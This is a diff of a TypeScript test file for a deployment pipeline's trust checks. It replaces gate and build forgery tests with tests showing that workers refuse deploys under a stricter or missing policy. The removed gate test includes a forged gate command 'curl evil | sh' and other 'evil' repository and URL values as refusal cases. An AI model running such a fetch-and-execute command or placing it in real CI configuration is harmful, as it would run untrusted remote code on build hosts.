@@ -2,19 +2,21 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { AUTHORITIES } from '../../../activities/trust/authority.js';
 import type { SealKeys } from '../../../activities/trust/seal-keys.js';
-import { hashPlan, withHash } from '../../../pipeline/hash-plan.js';
+import type { PolicyStore } from '../../../activities/trust/policy-store.js';
+import { withHash } from '../../../pipeline/hash-plan.js';
+import { loadPolicy } from '../../../pipeline/load-pipeline.js';
 import type { Seal } from '../../../pipeline/plan.js';
-import type { Activities, Target } from '../../../workflows/activity-contract.js';
+import type { Target } from '../../../workflows/activity-contract.js';
 import { CHANGES_THE_WORLD } from '../../../workflows/activity-options.js';
-import { FAILURE } from '../../../workflows/failures.js';
 import type { PriorState } from '../../../workflows/result.js';
 import { givenArtifacts } from '../../support/given.js';
 import {
+  beginsWith,
   evidenceOf,
-  GATE,
   gateInput,
   givenSealedRelease,
   givenSealKeys,
+  refusalWith,
   throughVouching,
   type Name,
   type SealedRelease,
@@ -62,29 +64,13 @@ const INPUTS: Partial<Record<Name, (words: Words) => unknown>> = {
   takeOver: ({ target }) => ({ target }),
 };
 const OF_A_TARGET = Object.keys(INPUTS) as Name[];
+const WAY_BACK_NAMES: Name[] = ['undoDeploy', 'takeOver', 'retireColour'];
 const WITH_PRIOR: Name[] = ['deploy', 'undoDeploy'];
 
-/** Did it begin? */
-async function call(name: Name, input: unknown): Promise<boolean> {
-  let begun = false;
-  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- the very point: anybody may send anything
-  await throughVouching(ours.keys, name, input as never, () => {
-    begun = true;
-    return { prior: [], artifacts: [] } as never;
-  });
-  return begun;
-}
-
-async function refusalOf(name: Name, input: unknown): Promise<string> {
-  let begun = false;
-  try {
-    begun = await call(name, input);
-  } catch (error) {
-    expect(error).toMatchObject({ type: FAILURE.unauthorized, nonRetryable: true });
-    return error instanceof Error ? error.message : '';
-  }
-  throw new Error(`${name} began: ${begun}`);
-}
+const call = (name: Name, input: unknown, policy?: PolicyStore): Promise<boolean> =>
+  beginsWith(ours.keys, name, input, policy);
+const refusalOf = (name: Name, input: unknown, policy?: PolicyStore): Promise<string> =>
+  refusalWith(ours.keys, name, input, policy);
 
 const words = (change: Partial<Target> = {}, prior = release.prior): Words => ({
   target: { ...release.target, ...change },
@@ -282,91 +268,34 @@ describe('activities that change the world', () => {
   );
 });
 
-describe('a gate', () => {
-  const input = () => gateInput(release.plan, release.environment, release.artifacts);
-  const ask = (change: Partial<Parameters<Activities['runGate']>[0]>) => ({ ...input(), ...change });
+describe('the policy of the moment', () => {
+  const back = WAY_BACK_NAMES;
+  const stricter: [string, string, RegExp][] = [
+    ['more approvals', 'approvals: [{count: 1, by: unverified}]', /policy has become stricter/],
+    ['other hosts', 'hosts: [deploy@web-1]', /host deploy@web-2 is not allowed/],
+    ['other refs', 'from: {branch: main}', /tag v1\.0\.0 is not allowed/],
+    ['a longer wait', 'wait: 1h', /policy has become stricter/],
+  ];
+  describe.each(stricter)('with %s', (_what, line, reason) => {
+    test.each(OF_A_TARGET.filter((name) => !back.includes(name)))('%s refuses', async (name) => {
+      expect(await refusalOf(name, INPUTS[name]?.(words()), policyOf(line))).toMatch(reason);
+    });
 
-  test('is asked as the sealed plan says', async () => {
-    expect(await call('runGate', input())).toBe(true);
+    test.each(back)('%s still goes back', async (name) => {
+      expect(await call(name, INPUTS[name]?.(words()), policyOf(line))).toBe(true);
+    });
   });
 
-  test.each<[string, () => unknown, RegExp]>([
-    [
-      'another command',
-      () => ask({ gate: { ...GATE, command: 'curl evil | sh' } as typeof GATE }),
-      /no such gate/,
-    ],
-    [
-      'no seal',
-      () => {
-        const { seal: _, ...rest } = input();
-        return rest;
-      },
-      /no genuine seal/,
-    ],
-    [
-      'another repository',
-      () => ask({ plan: { ...input().plan, repositoryUrl: '/srv/evil.git' } }),
-      /of another commit/,
-    ],
-    [
-      'another commit',
-      () => ask({ plan: { ...input().plan, commit: { ...input().plan.commit, sha: 'c'.repeat(40) } } }),
-      /of another commit/,
-    ],
-    [
-      'another digest',
-      () => ask({ plan: { ...input().plan, artifacts: givenArtifacts('evil') } }),
-      /no worker vouches/,
-    ],
-  ])('is not asked with %s', async (_what, forge, reason) => {
-    expect(await refusalOf('runGate', forge())).toMatch(reason);
-  });
-});
-
-describe('a build', () => {
-  test.each<[string, () => unknown, RegExp]>([
-    [
-      'a plan without seal',
-      () => {
-        const { seal: _, ...plan } = release.plan;
-        return { plan };
-      },
-      /no seal/,
-    ],
-    [
-      'another registry',
-      () => ({ plan: { ...release.plan, registry: { server: 'evil', username: 'x', password: 'env:X' } } }),
-      /changed after/,
-    ],
-    [
-      'another environment inside',
-      () => ({ plan: { ...release.plan, environments: [{ ...release.environment, url: 'http://evil' }] } }),
-      /changed after/,
-    ],
-  ])('is not begun with %s', async (_what, forge, reason) => {
-    expect(await refusalOf('buildArtifacts', forge())).toMatch(reason);
+  test('allows what it allowed when it was planned', async () => {
+    expect(await call('deploy', INPUTS.deploy?.(words()), policyOf())).toBe(true);
   });
 
-  test('waits for the release’s own gates', async () => {
-    const { planHash: _, seal: __, ...rest } = release.plan;
-    const plan = await throughVouching(ours.keys, 'resolvePlan', {} as never, () =>
-      withHash({ ...rest, gates: [GATE] }),
+  test('refuses production where the policy was taken away', async () => {
+    const gone: PolicyStore = { read: async () => null, isDemo: false };
+    expect(await refusalOf('deploy', INPUTS.deploy?.(words()), gone)).toMatch(
+      /is production, and this worker has no policy/,
     );
-    expect(await refusalOf('buildArtifacts', { plan, evidence: release.evidence })).toMatch(
-      /nobody vouches that gate ci/,
-    );
-    const seal = plan.seal === undefined ? {} : { seal: plan.seal };
-    const asked = { ...gateInput(plan, release.environment, []), ...seal };
-    const item = await throughVouching(ours.keys, 'runGate', asked, () => evidenceOf('pass'));
-    expect(await call('buildArtifacts', { plan, evidence: [item] })).toBe(true);
   });
-});
-
-test('the hash of a plan does not depend on its seals', () => {
-  const { seal: _, ...bare } = release.plan;
-  const environments = bare.environments.map(({ seal: __, ...plan }) => plan);
-  expect(hashPlan({ ...bare, environments })).toBe(release.plan.planHash);
 });
 
 function sealOf({ environment: { seal } }: SealedRelease): Seal {
@@ -386,4 +315,14 @@ function reworded(): Seal {
 
 function pick(seal: Seal | undefined): { seal?: Seal } {
   return seal === undefined ? {} : { seal };
+}
+
+/** One that allows the release as it was planned, but for one line. */
+function policyOf(line = ''): PolicyStore {
+  const hosts = line.startsWith('hosts:') ? '' : 'hosts: [deploy@web-1, deploy@web-2], ';
+  const text = `pipelines: {shop: {repositories: [/srv/shop.git], environments: {prod: {${hosts}${line}}}}}`;
+  const loaded = loadPolicy(Buffer.from(text), 'policy.yaml');
+  if (!loaded.ok) throw new Error(JSON.stringify(loaded.errors));
+  const policy = { content: loaded.file.content, allowedSigners: null, revokedKeys: null, hash: '' };
+  return { read: async () => policy, isDemo: false };
 }
